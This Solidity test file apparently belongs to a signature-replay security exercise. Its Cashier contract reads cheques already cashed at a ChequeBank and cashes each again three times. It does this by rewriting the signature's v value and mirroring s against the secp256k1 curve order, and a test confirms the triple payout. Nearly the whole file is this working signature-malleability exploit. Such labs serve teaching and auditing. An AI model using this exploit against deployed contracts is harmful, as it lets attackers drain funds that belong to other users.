// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {ChequeBank} from "../signature-replay/src/ChequeBank.sol";
import {Token} from "../../shared/Erc20.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

/// Reads cheques from the register and brings them again, written in the three other ways.
contract Cashier {
    uint256 private constant ORDER = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;

    function run(ChequeBank bank) external {
        uint256 count = bank.registered();
        for (uint256 i = 0; i < count; ++i) {
            (ChequeBank.Cheque memory cheque, ChequeBank.Signature memory known) = bank.register(i);
            if (cheque.payee != address(this)) continue;
            bytes32 mirrored = bytes32(ORDER - uint256(known.s));
            bank.cash(cheque, ChequeBank.Signature(known.v - 27, known.r, known.s));
            bank.cash(cheque, ChequeBank.Signature(55 - known.v, known.r, mirrored));
            bank.cash(cheque, ChequeBank.Signature(28 - known.v, known.r, mirrored));
        }
    }
}

contract SignatureReplayTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant ALICE = uint256(keccak256("signature-replay alice"));
    uint256 private constant BOB = uint256(keccak256("signature-replay bob"));
    address private constant CAROL = address(0xCA401);

    event Profit(uint256 coins);

    Token private coin;
    ChequeBank private bank;
    Cashier private cashier;

    function setUp() public {
        vm.warp(1_700_000_000);
        coin = new Token("Coin", "COIN");
        bank = new ChequeBank(coin);
        cashier = new Cashier();
        coin.mint(vm.addr(ALICE), 1_400_000 ether);
        coin.mint(vm.addr(BOB), 450_000 ether);
        coin.mint(CAROL, 60_000 ether);
        coin.mint(address(cashier), 3_000 ether);
        _deposit(vm.addr(ALICE), 1_100_000 ether);
        _deposit(vm.addr(BOB), 310_000 ether);
        _deposit(CAROL, 20_000 ether);
        _cash(ALICE, address(cashier), 64_000 ether, 1);
        _cash(ALICE, CAROL, 120_000 ether, 2);
        _cash(BOB, address(cashier), 27_500 ether, 1);
    }

    function _deposit(address who, uint256 amount) private {
        vm.startPrank(who);
        coin.approve(address(bank), 1e60);
        bank.deposit(amount);
        vm.stopPrank();
    }

    function _cash(uint256 key, address payee, uint256 amount, uint256 number) private {
        ChequeBank.Cheque memory cheque = ChequeBank.Cheque(vm.addr(key), payee, amount, number, 1_800_000_000);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, bank.digestOf(cheque));
        bank.cash(cheque, ChequeBank.Signature(v, r, s));
    }

    function test_attack_pays() public {
        uint256 before = coin.balanceOf(address(cashier));
        cashier.run(bank);
        uint256 profit = coin.balanceOf(address(cashier)) - before;
        emit Profit(profit);
        require(profit == 3 * (64_000 ether + 27_500 ether) * 9_985 / 10_000, "not three times");
    }
}
